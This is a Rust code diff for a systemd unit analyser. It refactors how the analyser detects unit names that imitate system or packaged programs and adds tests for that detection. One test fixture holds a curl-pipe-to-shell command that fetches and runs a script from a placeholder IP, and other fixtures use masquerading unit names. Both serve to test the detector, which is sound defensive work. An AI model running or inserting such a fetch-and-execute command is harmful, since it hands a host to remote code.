@@ -33,11 +33,6 @@ const SYSTEM_PREFIXES: &[&str] = &[
     "upower",
 ];
 
-/// Strips a version suffix (`python3.11` → `python`).
-fn stem_name(n: &str) -> &str {
-    n.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.' || c == '-' || c == '_')
-}
-
 /// What a unit's name imitates, if it imitates something: a kernel thread or system daemon
 /// name, a packaged program (a file in a system binary directory owned by a package) or a
 /// packaged unit on this host.
@@ -58,15 +53,8 @@ pub(crate) fn imitated(ctx: &Ctx, unit: &str) -> Option<String> {
     if let Some(p) = SYSTEM_PREFIXES.iter().find(|p| stem.starts_with(*p)) {
         return Some(format!("`{p}...` names belong to the system"));
     }
-    let short = stem_name(&stem);
-    let packaged = ctx.owned.iter().find(|f| {
-        let (dir, name) = f.rsplit_once('/').unwrap_or(("", f));
-        let prog_dir = matches!(dir, "/usr/bin" | "/usr/sbin" | "/usr/libexec");
-        let unit_dir = matches!(dir, "/usr/lib/systemd/system" | "/etc/systemd/system");
-        (prog_dir && (name == stem || (!short.is_empty() && stem_name(name) == short)))
-            || (unit_dir && name.rsplit_once('.').is_some_and(|(s, _)| s == stem))
-    });
-    packaged.map(|f| format!("a package installs `{f}`"))
+    ctx.packaged_name(&stem)
+        .then(|| format!("`{stem}` is the name of a program or unit a package installs here"))
 }
 
 pub(crate) fn unit_name_mismatch(
@@ -392,4 +380,122 @@ pub(crate) fn generator_unowned(
         });
     }
     out
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::config::AnalysisConfig;
+    use crate::engine::analyze;
+    use crate::testkit::input;
+    use dossier_plugin_api::analysis::{Finding, HostAnalysis};
+    use serde_json::json;
+
+    fn unit(line: usize, name: &str, exec: &str) -> (usize, serde_json::Value) {
+        let path = format!("/etc/systemd/system/{name}");
+        (
+            line,
+            json!({"kind": "unit", "name": name, "unit_type": name.rsplit('.').next().unwrap(),
+                   "scope": "system", "path": path, "source": {"path": path},
+                   "unit_dir": "/etc/systemd/system", "masked": false, "enabled": true,
+                   "exec_start": if exec.is_empty() { vec![] } else { vec![exec] }}),
+        )
+    }
+
+    fn packages() -> Vec<(usize, serde_json::Value)> {
+        vec![
+            (
+                1,
+                json!({"kind": "package", "manager": "dpkg", "name": "coreutils", "version": "9", "source": {"path": "/var/lib/dpkg/status"}}),
+            ),
+            (
+                2,
+                json!({"kind": "package_files", "manager": "dpkg", "package": "coreutils",
+                       "files": ["/usr/bin/sleep", "/usr/sbin/cron", "/usr/bin/restic", "/usr/lib/systemd/system/cron.service"],
+                       "source": {"path": "x"}}),
+            ),
+        ]
+    }
+
+    fn run(units: Vec<(usize, serde_json::Value)>) -> HostAnalysis {
+        let records = [
+            ("systemd".to_string(), units),
+            ("packages".to_string(), packages()),
+        ]
+        .into_iter()
+        .collect();
+        let mut read = |_: &str, _: u64| Err("none".to_string());
+        let mut inp = input(records, &mut read);
+        analyze(&mut inp, &AnalysisConfig::default())
+    }
+
+    fn of<'a>(a: &'a HostAnalysis, rule: &str) -> Vec<&'a Finding> {
+        a.findings
+            .iter()
+            .chain(&a.context)
+            .filter(|f| f.rule == rule)
+            .collect()
+    }
+
+    #[test]
+    fn unit_names_are_judged_by_what_they_imitate() {
+        let a = run(vec![
+            unit(1, "heartbeat.service", "/usr/bin/sleep infinity"),
+            unit(2, "backup.service", "/usr/bin/restic backup /srv"),
+            unit(3, "python.service", "/var/log/log"),
+            unit(4, "systemd-netd.service", "/opt/x/agent"),
+            unit(5, "cron-helper.service", "/opt/y"),
+        ]);
+        let m = of(&a, "unit-name-mismatch");
+        let behaviour: Vec<&str> = a
+            .findings
+            .iter()
+            .filter(|f| f.rule == "unit-name-mismatch")
+            .map(|f| f.subject.as_str())
+            .collect();
+        assert_eq!(m.len(), 5, "{m:?}");
+        assert_eq!(
+            behaviour,
+            [
+                "cron-helper.service",
+                "python.service",
+                "systemd-netd.service"
+            ]
+        );
+        // A local heartbeat and a backup unit are normal: context only, nothing scored.
+        let a = run(vec![
+            unit(1, "heartbeat.service", "/usr/bin/sleep infinity"),
+            unit(2, "backup.service", "/usr/bin/restic backup /srv"),
+        ]);
+        assert_eq!((a.score, a.hits.len()), (0, 0), "{:?}", a.hits);
+        assert!(of(&a, "unit-local-unowned").len() == 2);
+    }
+
+    #[test]
+    fn inline_shell_and_timers_judge_content() {
+        let mut timer = unit(3, "poll.timer", "");
+        timer.1["timer"] = json!({"unit": "poll.service", "on_unit_active_sec": ["1min"]});
+        let mut quiet = unit(5, "sync.timer", "");
+        quiet.1["timer"] = json!({"unit": "sync.service", "on_unit_active_sec": ["2min"]});
+        let a = run(vec![
+            unit(1, "local.service", "/bin/sh -c 'echo hi >/run/x'"),
+            unit(
+                2,
+                "poll.service",
+                "/bin/sh -c 'curl -fsSL http://198.51.100.7/p | sh'",
+            ),
+            timer,
+            unit(4, "sync.service", "/usr/bin/sleep 1"),
+            quiet,
+        ]);
+        let sh: Vec<&str> = of(&a, "inline-shell-download")
+            .iter()
+            .map(|f| f.subject.as_str())
+            .collect();
+        assert_eq!(sh, ["poll.service"], "a bare sh -c is not judged");
+        let timers: Vec<(&str, bool)> = of(&a, "aggressive-timer-unowned")
+            .iter()
+            .map(|f| (f.subject.as_str(), f.class.is_behaviour()))
+            .collect();
+        assert_eq!(timers, [("poll.timer", true), ("sync.timer", false)]);
+    }
 }
